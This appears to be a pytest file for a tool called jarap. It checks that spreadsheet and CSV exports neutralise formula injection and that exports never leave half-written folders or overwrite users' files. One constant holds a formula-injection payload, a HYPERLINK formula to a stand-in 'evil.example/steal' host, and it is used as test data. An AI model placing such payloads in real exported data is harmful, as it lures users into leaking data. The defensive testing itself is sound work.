"""Exports that a spreadsheet cannot be attacked through and that never leave a half-written
folder: formula-looking text stays text, a failed export keeps the previous one whole, and
one export's folder holds one consistent export."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import SAMPLES

import jarap.db.export as export_module
from jarap.cli import cli

openpyxl = pytest.importorskip("openpyxl")

TEXT_0721 = SAMPLES / "tracker-2021" / "northshire-tracker-2021-07.txt"
ATTACK = '=HYPERLINK("http://evil.example/steal","Click for details")'
JSONL = {f"{n}.jsonl" for n in export_module.FILES}
MANIFEST = export_module.MANIFEST


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A paper whose recommendation title is a spreadsheet formula."""
    tmp = tmp_path_factory.mktemp("hostile")
    text = TEXT_0721.read_text(encoding="utf-8")
    title = "<u>4.1 Reconciliation of Stored Property</u>"
    assert title in text
    paper = tmp / "hostile.txt"
    paper.write_text(text.replace(title, f"<u>4.1 {ATTACK}</u>", 1), encoding="utf-8")
    db = str(tmp / "archive.db")
    CliRunner().invoke(cli, ["ingest", str(paper), "--db", db])
    return db


def test_a_formula_in_a_paper_is_text_in_the_xlsx(hostile_db: str, tmp_path: Path) -> None:
    out = tmp_path / "x"
    result = CliRunner().invoke(
        cli, ["export", "--db", hostile_db, "--out", str(out), "--format", "xlsx"]
    )
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(out / "archive.xlsx")["recommendations"]
    header = [c.value for c in ws[1]]  # in words: "Title"
    titles = [row[header.index("Title")] for row in ws.iter_rows(min_row=2)]
    (cell,) = [c for c in titles if c.value == ATTACK]
    assert cell.data_type == "s"
    with zipfile.ZipFile(out / "archive.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in z.read(n) for n in sheets)  # no formula anywhere


def test_a_formula_is_escaped_in_sql_csv(hostile_db: str) -> None:
    sql = "SELECT ref, title FROM recommendations WHERE ref = '4.1' AND title LIKE '=%'"
    result = CliRunner().invoke(cli, ["sql", sql, "--db", hostile_db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows == [["ref", "title"], ["4.1", "'" + ATTACK]]
    as_json = CliRunner().invoke(cli, ["sql", sql, "--db", hostile_db, "--format", "json"])
    assert json.loads(as_json.output) == [{"ref": "4.1", "title": ATTACK}]  # data stays data


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    from jarap.db.sql import Result, format_result

    text = f"{start}1+2"
    out = format_result(Result(["v", "n"], [(text, -3)]), "csv")
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows[1] == ["'" + text, "-3"]  # a negative number is a number, not text


def test_a_failed_export_leaves_the_previous_one_whole(
    hostile_db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "export"
    assert CliRunner().invoke(cli, ["export", "--db", hostile_db, "--out", str(out)]).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert set(before) == JSONL | {MANIFEST}
    real = export_module.write_jsonl
    written: list[str] = []

    def disk_full(path: Path, rows) -> None:  # type: ignore[no-untyped-def]
        if written:
            path.write_text("{half a line")
            raise OSError(28, "No space left on device", str(path))
        written.append(path.name)
        real(path, rows)

    monkeypatch.setattr(export_module, "write_jsonl", disk_full)
    result = CliRunner().invoke(cli, ["export", "--db", hostile_db, "--out", str(out)])
    assert result.exit_code == 1
    assert (
        "No space left on device" in result.output
        and "previous export is unchanged" in result.output
    )
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # no temp folder left either


def test_the_folder_holds_one_consistent_export(hostile_db: str, tmp_path: Path) -> None:
    out = tmp_path / "export"
    out.mkdir()
    (out / "README.txt").write_text("the migration team's own notes")
    runner = CliRunner()
    assert (
        runner.invoke(
            cli, ["export", "--db", hostile_db, "--out", str(out), "--format", "xlsx"]
        ).exit_code
        == 0
    )
    assert {p.name for p in out.iterdir()} == {"archive.xlsx", "README.txt", MANIFEST}
    assert runner.invoke(cli, ["export", "--db", hostile_db, "--out", str(out)]).exit_code == 0
    assert {p.name for p in out.iterdir()} == JSONL | {"README.txt", MANIFEST}  # old workbook gone
    assert (
        runner.invoke(
            cli, ["export", "--db", hostile_db, "--out", str(out), "--format", "xlsx"]
        ).exit_code
        == 0
    )
    assert {p.name for p in out.iterdir()} == {"archive.xlsx", "README.txt", MANIFEST}


OURS = sorted(JSONL | {"archive.xlsx"})


@pytest.mark.parametrize("fmt", ["jsonl", "xlsx"])
@pytest.mark.parametrize("name", OURS)
def test_export_never_overwrites_or_removes_a_file_it_did_not_write(
    hostile_db: str, tmp_path: Path, fmt: str, name: str
) -> None:
    """Every name an export of either format uses, held by a user's own file: the export of
    the format that writes that name refuses with one line and changes nothing (--force
    overwrites); the other format leaves the file alone."""
    out = tmp_path / "export"
    out.mkdir()
    own = out / name
    own.write_bytes(b"the migration team's own file\n")
    args = ["export", "--db", hostile_db, "--out", str(out), "--format", fmt]
    result = CliRunner().invoke(cli, args)
    writes = name == "archive.xlsx" if fmt == "xlsx" else name != "archive.xlsx"
    if writes:
        assert result.exit_code == 1
        assert result.output.count("\n") == 1 and "not written by jarap export" in result.output
        assert [p.name for p in out.iterdir()] == [name]  # nothing written, nothing left
        forced = CliRunner().invoke(cli, [*args, "--force"])
        assert forced.exit_code == 0 and own.read_bytes() != b"the migration team's own file\n"
    else:
        assert result.exit_code == 0, result.output
        assert own.read_bytes() == b"the migration team's own file\n"


def test_an_export_file_edited_by_a_user_is_theirs(hostile_db: str, tmp_path: Path) -> None:
    out = tmp_path / "export"
    runner = CliRunner()
    assert runner.invoke(cli, ["export", "--db", hostile_db, "--out", str(out)]).exit_code == 0
    assert runner.invoke(cli, ["export", "--db", hostile_db, "--out", str(out)]).exit_code == 0
    with (out / "papers.jsonl").open("a") as fh:
        fh.write('{"note": "added by hand"}\n')
    edited = (out / "papers.jsonl").read_bytes()
    result = runner.invoke(cli, ["export", "--db", hostile_db, "--out", str(out)])
    assert result.exit_code == 1 and "papers.jsonl was not written by jarap export" in result.output
    xlsx = runner.invoke(cli, ["export", "--db", hostile_db, "--out", str(out), "--format", "xlsx"])
    assert xlsx.exit_code == 0
    assert (out / "papers.jsonl").read_bytes() == edited  # not removed with the other jsonl
    assert not (out / "actions.jsonl").exists()  # ours, unchanged: replaced by the workbook
